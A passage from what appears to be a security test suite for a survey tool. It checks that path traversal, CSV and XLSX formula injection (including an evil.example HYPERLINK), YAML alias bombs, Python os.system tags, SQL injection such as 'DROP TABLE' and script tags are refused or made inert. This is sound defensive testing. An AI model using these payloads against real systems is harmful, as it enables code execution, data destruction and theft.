        "/e/..%2f..%2ffeedback.db",
        "/e/../../feedback.db",
        "/e/hague-2011/../../feedback.db",
        "/s/..%2f..%2ffeedback.db",
        "/" + up + str(db).lstrip("/"),
    ]
    with live_server(web.app) as base:
        assert _raw_get(base, "/static/form.css")[0] == 200  # the way in works
        for path in paths:
            status, body = _raw_get(base, path)
            assert status in (400, 404), (path, status)
            assert b"SQLite format 3" not in body and b"make_app" not in body, path


# -- 7. formulas in spreadsheets -----------------------------------------------------------------

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _number(text: str) -> bool:
    try:
        float(text.rstrip("%"))
    except ValueError:
        return False
    return True


def _live_formulas(cells: list[Any]) -> list[Any]:
    """Cells a spreadsheet would run as a formula: text starting with = + - @ tab or CR that is
    not a plain number."""
    return [c for c in cells if isinstance(c, str) and c.startswith(DANGEROUS) and not _number(c)]


def test_formulas_in_answers_are_inert_in_csv_and_xlsx_exports(reported: Path) -> None:
    """Attack: participants answer ``=HYPERLINK(...)``, ``+cmd|...``, ``-2+3+cmd``, ``@SUM``, and
    text starting with a tab or a carriage return; the organiser exports with ``feedback
    responses export`` (CSV to a file and to the terminal, XLSX) and opens it in a spreadsheet.
    Must hold: no cell starts a formula; each answer is kept, behind an apostrophe; no XLSX cell
    is a formula."""
    out = reported / "exports"
    out.mkdir(exist_ok=True)
    # as stored: the one answer parser strips whitespace at a text's ends ("\t=1+1" is "=1+1")
    wanted = {"'" + strip(f) for f in FORMULAS}
    for name in ("responses.csv", "responses.xlsx"):
        fmt = name.rsplit(".", 1)[1]
        result = run(reported, "responses", "export", "--format", fmt, "-o", str(out / name))
        assert result.exit_code == 0, result.output
    shown = run(reported, "responses", "export", "--event", "hague-2011")
    assert shown.exit_code == 0

    with (out / "responses.csv").open(encoding="utf-8", newline="") as written:
        texts = [written.read(), shown.stdout]
    for text in texts:
        cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
        assert _live_formulas(cells) == []
        assert wanted <= set(cells)

    sheet = load_workbook(out / "responses.xlsx")["responses"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells]
    assert _live_formulas(values) == []
    # XML reads a carriage return back as a line feed: the answer is kept, behind the apostrophe
    assert {w.replace("\r", "\n") for w in wanted} <= set(values)


def test_formulas_in_labels_are_inert_in_the_reports_csv(reported: Path) -> None:
    """Attack: a survey whose report labels and group names start a formula (``=HYPERLINK``,
    ``+cmd``, ``@SUM``, ``-2+3``), reported with ``feedback report --format csv``. Must hold: no
    cell starts a formula, only figures such as ``-13`` start with a sign; the labels are there,
    behind an apostrophe."""
    with (reported / "report.csv").open(encoding="utf-8", newline="") as written:
        text = written.read()
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert _live_formulas(cells) == []
    assert "'=1+1 <script>alert('support')</script>" in cells
    assert "'-2+3 </title><script>alert('change')</script>" in cells
    assert '\'=HYPERLINK("http://evil.example","MPs")' in cells


# -- 8. YAML bombs and tags ----------------------------------------------------------------------

LAUGHS = "\n".join(
    [
        "id: bomb",
        'title: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]',
        *(
            f"{n}: &{n} [{', '.join([f'*{p}'] * 9)}]"
            for p, n in zip("abcdefgh", "bcdefghi", strict=True)
        ),
        "questions: *i",
    ]
)
QUESTION = "{id: q, type: text, label: Anything to add}"


def _tagged(marker: Path) -> dict[str, tuple[str, str | None]]:
    """Each attack's survey file, and the same file without its tag (a valid survey), or None."""
    run_it = f'!!python/object/apply:os.system ["touch {marker}"]'
    files = {
        "apply on the title": f"id: tagged\ntitle: {run_it}\nquestions:\n  - {QUESTION}\n",
        "apply on a question": (
            "id: tagged\ntitle: Tagged\nquestions:\n"
            f"  - !!python/object/apply:os.system {QUESTION}\n"
        ),
        "new on the languages": (
            "id: tagged\ntitle: Tagged\nlanguages: !!python/object/new:os.system [en]\n"
            f"questions:\n  - {QUESTION}\n"
        ),
        "apply on the scales": (
            "id: tagged\ntitle: Tagged\nscales: !!python/object/apply:os.system {}\n"
            f"questions:\n  - {QUESTION}\n"
        ),
        "a name as a scalar": (
            f"id: tagged\ntitle: !!python/name:os.system\nquestions:\n  - {QUESTION}\n"
        ),
        "a module as a scalar": (
            f"id: tagged\ntitle: !!python/module:os\nquestions:\n  - {QUESTION}\n"
        ),
    }
    untagged = {
        "apply on the title": None,  # a list is no title: refused with or without the tag
        "a name as a scalar": f"id: tagged\ntitle: os.system\nquestions:\n  - {QUESTION}\n",
        "a module as a scalar": f"id: tagged\ntitle: os\nquestions:\n  - {QUESTION}\n",
    }
    out: dict[str, tuple[str, str | None]] = {"a billion laughs": (LAUGHS, None)}
    for name, text in files.items():
        bare = text.replace("!!python/object/apply:os.system ", "")
        out[name] = (text, untagged.get(name, bare.replace("!!python/object/new:os.system ", "")))
    return out


@pytest.mark.parametrize("attack", list(_tagged(Path("PWNED"))))
def test_yaml_bombs_and_python_tags_in_a_survey_are_refused(project: Path, attack: str) -> None:
    """Attack: a survey file that is a billion-laughs alias bomb (9^9 values from a few lines),
    or that carries ``!!python/object/apply:os.system`` (and its kin: ``object/new``, ``name``,
    ``module``) tags on a scalar, a list or a mapping, given to ``feedback survey validate``.
    Must hold: refused with exit 2 within seconds, and nothing runs (the command's marker file
    is never made). Where the file without its tag is a valid survey (checked, as a control),
    the tag itself must be what is refused, not a wrong type of value that it happens to make."""
    marker = project / "PWNED"
    text, untagged = _tagged(marker)[attack]
    path = project / "surveys" / "attack.yaml"
    path.write_text(text, encoding="utf-8")
    # CPU time of this process (the command runs in it), not the wall clock: a machine busy with
    # other work must not fail the test, and a bomb spends CPU, not waits.
    started = time.process_time()
    result = run(project, "survey", "validate", str(path))
    assert time.process_time() - started < 5
    assert not marker.exists()
    assert result.exit_code == 2, result.output
    assert "attack.yaml:" in result.output
    if untagged is not None:  # the control: without its tag the file is a valid survey
        path.write_text(untagged, encoding="utf-8")
        control = run(project, "survey", "validate", str(path))
        assert control.exit_code == 0, control.output


# -- 9. SQL through the command line -------------------------------------------------------------

INJECTIONS = ["'; DROP TABLE responses; --", '" OR 1=1 --', "hague-2011' OR '1'='1"]
ROSTER = (
    "name,email,role,country,organisation,attended\n"
    '"Robert\'); DROP TABLE people; --",bobby\'--@example.org,mp,NL,"\' OR 1=1 --",yes\n'
    "Ann Example,ann@example.org,ngo,NL,Org,yes\n"
)


def test_sql_in_command_line_arguments_is_refused_or_kept_as_data(event_project: Path) -> None:
    """Attack: ``'; DROP TABLE responses; --``, ``" OR 1=1 --`` and ``hague-2011' OR '1'='1`` as
    the event of ``event add``, ``roster list``, ``responses export``, ``report``, ``score`` and
    ``invitations``, as the survey of ``responses export``; and in an event's title and city and
    a roster's name, email and organisation. Must hold: ids are refused (exit 2) without showing
    any row; text is stored and shown exactly as written; every table and row is intact."""
    project = event_project
    db = project / "feedback.db"
    (project / "roster.csv").write_text(ROSTER, encoding="utf-8")
    (project / "answers.jsonl").write_text(
        json.dumps(
            {
                "id": str(uuid.uuid4()),
                "survey": "post-seminar",
                "event": "hague-2011",
                "channel": "kiosk",
                "language": "en",
                "submitted": "2011-01-26",
                "answers": {"role": "ngo", "improvements": INJECTIONS[0]},
            }
        )
        + "\n",
        encoding="utf-8",
    )
    for args in (
        ("roster", "import", str(project / "roster.csv"), "--event", "hague-2011"),
        ("responses", "import", str(project / "answers.jsonl")),
    ):
        assert run(project, *args).exit_code == 0
    tables = query(db, "SELECT type, name, sql FROM sqlite_master ORDER BY name")
    before = dump(db)
    [(response_id,)] = query(db, "SELECT id FROM responses")

    for bad in INJECTIONS:
        for args in (
            ("event", "add", bad, "--title", "T"),
            ("event", "add", "lisbon-2012", "--title", "T", "--programme", bad),
            ("roster", "list", "--event", bad),
            ("responses", "export", "--event", bad),
            ("responses", "export", "--survey", bad),
            ("report", "--event", bad, "-o", str(project / "r.html")),
            ("score", "--event", bad),
            ("invitations", "--event", bad),
        ):
            result = run(project, *args)
            assert result.exit_code == 2, (args, result.output)
            assert "ann@example.org" not in result.output and response_id not in result.output
    assert dump(db) == before

    args = ("event", "add", "lisbon-2012", "--title", INJECTIONS[0], "--city", INJECTIONS[1])
    assert run(project, *args).exit_code == 0
    assert query(db, "SELECT title, city FROM events WHERE id = 'lisbon-2012'") == [
        (INJECTIONS[0], INJECTIONS[1])
    ]
    assert query(db, "SELECT email, organisation FROM people ORDER BY id") == [
        ("bobby'--@example.org", "' OR 1=1 --"),
        ("ann@example.org", "Org"),
    ]
    listed = run(project, "roster", "list", "--event", "hague-2011", "--json")
    assert [p["name"] for p in json.loads(listed.output)] == [
        "Ann Example",
        "Robert'); DROP TABLE people; --",
    ]
    assert query(db, "SELECT type, name, sql FROM sqlite_master ORDER BY name") == tables
    assert query(db, "PRAGMA integrity_check") == [("ok",)]
    assert query(db, "SELECT count(*) FROM responses") == [(1,)]
    assert query(db, "SELECT json_extract(answers, '$.improvements') FROM responses") == [
        (INJECTIONS[0],)
    ]


# -- 10. security headers ------------------------------------------------------------------------


def _csp(value: str) -> dict[str, str]:
    return {
        part.split()[0]: " ".join(part.split()[1:]) for part in value.split(";") if part.strip()
    }


def test_every_web_response_forbids_framing_sniffing_referrers_and_foreign_scripts(
    web: Web, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Attack: frame the form on another site (clickjacking), get a response sniffed as HTML,
    read the personal link from the Referer of a followed link, run a script from elsewhere.
    Must hold: every response, pages and refusals alike (static files, 303, 403, 404 of the app
    and of the path check, 405, 413, 429, the QR code), carries exactly one
    Content-Security-Policy with ``default-src 'none'``, ``script-src 'self'``, ``frame-ancestors
    'none'``, ``base-uri 'none'``, ``form-action 'self'`` and nothing unsafe,
    ``X-Frame-Options: DENY``, ``X-Content-Type-Options: nosniff``, ``Referrer-Policy:
    no-referrer``."""
    monkeypatch.setenv("FEEDBACK_WEB__OPEN_LINK_ADDRESS_LIMIT", "1")
    _, token = web.invite()
    client = web.client()
    page = client.get(f"/s/{token}")
    csrf = parse(page.text).hidden["csrf"]
    guesser = web.client(client=("192.0.2.77", 40000))
    for _ in range(10):
        guesser.get(f"/s/{new_token()}")
    first, second = (web.visitor(OPEN, client=("192.0.2.78", n)) for n in (1, 2))
    _complete(first)
    second.open()
    for fields in SHIPPED_PAGES[:-1]:
        second.send(fields)
    form = "application/x-www-form-urlencoded"

    seen = {
        "form page": (200, page),
        "redirect": (
            303,
            client.post(
                f"/s/{token}",
                content=f"csrf={csrf}&page=0&role=ngo&action=next",
                headers={"content-type": form},
                follow_redirects=False,
            ),
        ),
        "refused post": (403, post_raw(client, f"/s/{token}", [("csrf", "x")])),
        "unknown link": (404, client.get(f"/s/{new_token()}")),
        "not canonical": (404, client.get(f"/%73/{token}")),
        "no such page": (404, client.get("/wp-admin")),
        "wrong method": (405, client.delete(f"/s/{token}")),
        "too large": (
            413,
            client.post(OPEN, content=b"a=" + b"x" * 1_100_000, headers={"content-type": form}),
        ),
        "too many links": (429, guesser.get(f"/s/{new_token()}")),
        "throttled": (
            429,
            post_raw(
                second.client,
                OPEN,
                [*second.page.hidden.items(), *SHIPPED_PAGES[-1], ("action", "next")],
            ),
        ),
        "open link": (200, client.get(OPEN)),
        "venue": (200, client.get(f"{OPEN}/qr")),
        "qr code": (200, client.get(f"{OPEN}/qr.svg")),
        "stylesheet": (200, client.get("/static/form.css")),
        "script": (200, client.get("/static/form.js")),
        "missing static": (404, client.get("/static/nothing.js")),
        "home": (200, client.get("/")),
    }
    problems = []
    for name, (status, response) in seen.items():
        headers = response.headers
        if response.status_code != status:
            problems.append(f"{name}: status {response.status_code}, expected {status}")
        policies = headers.get_list("content-security-policy")
        if len(policies) != 1:
            problems.append(f"{name}: {len(policies)} Content-Security-Policy headers")
            continue
        csp = _csp(policies[0])
        wanted = {
            "default-src": "'none'",
            "script-src": "'self'",
            "frame-ancestors": "'none'",
            "base-uri": "'none'",
            "form-action": "'self'",
        }
        if any(csp.get(k) != v for k, v in wanted.items()) or "unsafe" in policies[0]:
            problems.append(f"{name}: Content-Security-Policy {policies[0]!r}")
        for header, value in (
            ("x-frame-options", "DENY"),
            ("x-content-type-options", "nosniff"),
            ("referrer-policy", "no-referrer"),
        ):
            if headers.get_list(header) != [value]:
                problems.append(f"{name}: {header} {headers.get_list(header)}")
    assert problems == []


# -- 11. tokens in the log -----------------------------------------------------------------------


class Lines(logging.Handler):
    """Keeps every record's formatted message."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(f"{record.name}: {record.getMessage()}")


def test_requests_to_personal_links_log_no_token(web: Web, monkeypatch: pytest.MonkeyPatch) -> None:
    """Attack: read the server's log (a shared log host, a support ticket) for personal links.
    ``feedback serve`` runs (in this process, on loopback) and is sent the link by GET, with a
    query, with a trailing slash, with ``/S/``, by POST with a forged token, as an unknown link,
    and past the rate limit. Must hold: the access log has a line for each request, with
    ``/s/[token]`` and no token, not even a part of one."""
    monkeypatch.setenv("FEEDBACK_WEB__RATE_LIMIT", "2")
    _, token = web.invite()
    unknown = new_token()
    web.engine.close()
    lines = Lines()
    servers: list[Any] = []
    loggers = [logging.getLogger(n) for n in ("uvicorn", "uvicorn.access", "uvicorn.error", "")]
    filters = {lg.name: list(lg.filters) for lg in loggers}
    real_make_server = feedback_web.server.make_server

    def make_server(*args: Any, **kwargs: Any) -> Any:
        server = real_make_server(*args, **kwargs)  # uvicorn's logging is set up by now
        for logger in loggers:
            logger.addHandler(lines)
        servers.append(server)
        return server

    monkeypatch.setattr(feedback_web.server, "make_server", make_server)
    port = free_port()
    args = ["--project", str(web.project), "serve", "--port", str(port)]
    thread = threading.Thread(target=cli.main, args=(args,), kwargs={"standalone_mode": False})
    thread.start()
    try:
        deadline = time.monotonic() + 20
        while not (servers and servers[0].started):
            assert thread.is_alive() and time.monotonic() < deadline, "feedback serve did not start"
            time.sleep(0.02)
        with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=10) as client:
            statuses = [
                client.get(f"/s/{token}").status_code,
                client.get(f"/s/{token}?lang=en&x=1").status_code,
                client.get(f"/s/{token}/").status_code,
                client.get(f"/S/{token}").status_code,
                client.post(f"/s/{token}", data={"csrf": token, "page": "0"}).status_code,
                client.get(f"/s/{unknown}").status_code,
                client.get(f"/s/{unknown}?again").status_code,
                client.get(f"/s/{unknown}?third").status_code,
                client.get(f"/s/{token}").status_code,
            ]
    finally:
        if servers:
            servers[0].should_exit = True
        thread.join(15)
        for logger in loggers:
            logger.removeHandler(lines)
            logger.filters[:] = filters[logger.name]
    assert not thread.is_alive()
    assert statuses == [200, 200, 307, 404, 403, 404, 404, 429, 200]
    access = [line for line in lines.lines if line.startswith("uvicorn.access")]
    assert len(access) == len(statuses), lines.lines
    assert sum("/s/[token]" in line for line in access) >= 6, access
    pieces = {t[i : i + 12] for t in (token, unknown) for i in range(0, 32, 4)}
    assert [line for line in lines.lines if any(p in line for p in pieces)] == []
